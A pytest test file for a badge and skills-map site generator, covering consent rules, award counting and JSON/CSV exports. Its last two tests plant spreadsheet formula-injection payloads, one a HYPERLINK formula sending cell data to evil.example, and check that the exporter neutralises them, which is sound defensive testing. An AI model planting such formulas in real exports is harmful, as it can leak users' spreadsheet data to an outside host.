"""The skills map: counting rules, consent, machines a badge opens, and open data that
agrees with the pages."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from generator.site.build import build, check
from generator.site.render.skills_map import SkillsMap, build_skills_map

from .credential_fixtures import BUILD_AT, SignedNetwork, ok

PERSON = "content/people/{slug}.yaml"


def link_person(
    network: SignedNetwork, slug: str, credential: Path, scopes: dict[str, bool]
) -> None:
    lines = [f"name: Personne {slug}", "consent:"]
    lines += [f"  {scope}: {'true' if given else 'false'}" for scope, given in scopes.items()]
    lines += [
        "contact: https://example.org/contact/" + slug,
        "awards:",
        f"  - atelier/{credential.stem}",
    ]
    path = network.site / PERSON.format(slug=slug)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n", "utf-8")


def skills_map_of(network: SignedNetwork) -> SkillsMap:
    checked = check(network.site)
    return build_skills_map(checked.network, checked.awards, checked.now)


def test_only_valid_awards_are_counted(
    network: SignedNetwork, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01: one laser award expired
    cell = skills_map_of(network).cell("laser", "debutant")
    assert cell.holders == 1  # the valid one; the one that expired on 2025-05-01 is not counted
    assert [(issuer.slug, count) for issuer, count in cell.by_issuer] == [("atelier", 1)]
    ok(
        "revoke", network.laser, "--source", network.site, "--reason", "Erreur",
        "--key-file", network.key_file, at="2024-06-01T10:00:00Z",
    )  # fmt: skip
    assert skills_map_of(network).cell("laser", "debutant").holders == 0


def test_names_only_with_map_consent(network: SignedNetwork) -> None:
    link_person(network, "avec-carte", network.laser, {"map": True})
    assert skills_map_of(network).cell("laser", "debutant").named == ("Personne avec-carte",)
    link_person(network, "avec-carte", network.laser, {"map": False, "name": True})
    assert skills_map_of(network).cell("laser", "debutant").named == ()


def test_resource_persons_need_consent_and_a_resource_level(network: SignedNetwork) -> None:
    link_person(network, "formatrice", network.laser, {"resource": True})
    assert skills_map_of(network).resource_persons == ()  # 'debutant' is not a resource level
    skills = network.site / "content" / "skills.yaml"
    skills.write_text(
        skills.read_text("utf-8").replace("  debutant:\n", "  debutant:\n    resource: true\n"),
        "utf-8",
    )
    persons = skills_map_of(network).resource_persons
    assert [(p.name, p.contact, p.issuer.slug, p.level.slug) for p in persons] == [
        ("Personne formatrice", "https://example.org/contact/formatrice", "atelier", "debutant")
    ]
    link_person(network, "formatrice", network.laser, {"resource": False, "map": True})
    assert skills_map_of(network).resource_persons == ()


def test_a_badge_opens_the_machines_of_its_domain_at_its_level_or_below(
    network: SignedNetwork,
) -> None:
    checked = check(network.site)
    skills_map = skills_map_of(network)
    beginner = checked.network.badges["laser-debutant"]
    assert [(m.issuer.slug, m.machine.slug) for m in skills_map.opened_by(beginner)] == [
        ("atelier", "laser-1")
    ]
    assert skills_map.opened_by(checked.network.badges["atelier-accueil"]) == []


def test_machine_page_and_badge_page_say_where_a_badge_takes_you(network: SignedNetwork) -> None:
    ok("build", "--source", network.site, "--out", network.out, at=BUILD_AT)
    machine = (network.out / "issuers/atelier/machines/laser-1/index.html").read_text("utf-8")
    assert "Laser - Débutant" in machine and 'class="poster"' in machine
    badge = (network.out / "badges/laser-debutant/index.html").read_text("utf-8")
    assert "Où ce badge peut-il vous mener ?" in badge
    assert "/test-network/issuers/atelier/machines/laser-1/" in badge


def test_export_documents_its_fields_and_leaks_nothing(example_site: Path) -> None:
    export = json.loads((example_site / "data/skills-map.json").read_text("utf-8"))
    assert set(export["fields"]) == set(export["rows"][0])
    text = (example_site / "data/skills-map.json").read_text("utf-8")
    assert "sha256$" not in text and "@" not in text.replace("@brest", "")
    assert "Ève Quéré" in text  # resource consent
    assert "Alice Martin" not in text  # map consent only: named on the map page, not a resource


def test_csv_and_json_exports_hold_the_same_rows(example_site: Path) -> None:
    rows = json.loads((example_site / "data/skills-map.json").read_text("utf-8"))["rows"]
    table = list(
        csv.DictReader(io.StringIO((example_site / "data/skills-map.csv").read_text("utf-8")))
    )
    assert len(table) == len(rows)
    for line, row in zip(table, rows, strict=True):
        assert line["domain"] == row["domain"] and line["structure"] == row["structure"]
        assert int(line["holders"]) == row["holders"]
        assert line["machines"] == " | ".join(row["machines"])


def test_export_counts_match_the_map_page(example_site: Path) -> None:
    rows = json.loads((example_site / "data/skills-map.json").read_text("utf-8"))["rows"]
    totals: dict[tuple[str, str], int] = {}
    for row in rows:
        key = (row["domain"], row["level"])
        totals[key] = totals.get(key, 0) + row["holders"]
    page = (example_site / "map/index.html").read_text("utf-8")
    shown = {
        (domain, level): int(count)
        for domain, level, count in re.findall(
            r'data-cell="([a-z0-9-]+)/([a-z0-9-]+)"[^>]*>(\d+)<', page
        )
    }
    assert shown, "the map page has no cells"
    for key, count in shown.items():
        assert totals.get(key, 0) == count, key
    assert (
        sum(shown.values()) == sum(totals.values()) == 4
    )  # 7 awards: 1 revoked, 1 expired, 1 local
    # a cell nobody holds yet is a plain 0, not a link to follow
    assert 0 in shown.values()
    assert not re.search(r"<a [^>]*>0</a>", page)


def test_domain_page_lists_resource_persons_with_contact(example_site: Path) -> None:
    page = (example_site / "map/decoupe-laser/index.html").read_text("utf-8")
    assert "Ève Quéré" in page and "https://example.org/contact/eve-quere" in page
    assert "Bob Le Gall" not in page


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\tA", "\rA"],
)
def test_no_csv_cell_is_a_formula(name: str) -> None:
    from generator.site.render.open_data import spreadsheet_safe

    cell = spreadsheet_safe(name)
    assert cell == "'" + name
    assert spreadsheet_safe("Alice Martin") == "Alice Martin"


def test_a_display_name_written_as_a_formula_is_inert_in_the_csv(
    network: SignedNetwork, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
    link_person(network, "piege", network.laser, {"map": True, "resource": True})
    skills = network.site / "content" / "skills.yaml"
    skills.write_text(
        skills.read_text("utf-8").replace("  debutant:\n", "  debutant:\n    resource: true\n"),
        "utf-8",
    )
    person = network.site / PERSON.format(slug="piege")
    person.write_text(
        person.read_text("utf-8").replace("name: Personne piege", f"name: '{formula}'"), "utf-8"
    )
    build(network.site, tmp_path / "out")
    text = (tmp_path / "out" / "data" / "skills-map.csv").read_text("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(cell.startswith("'" + formula) for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
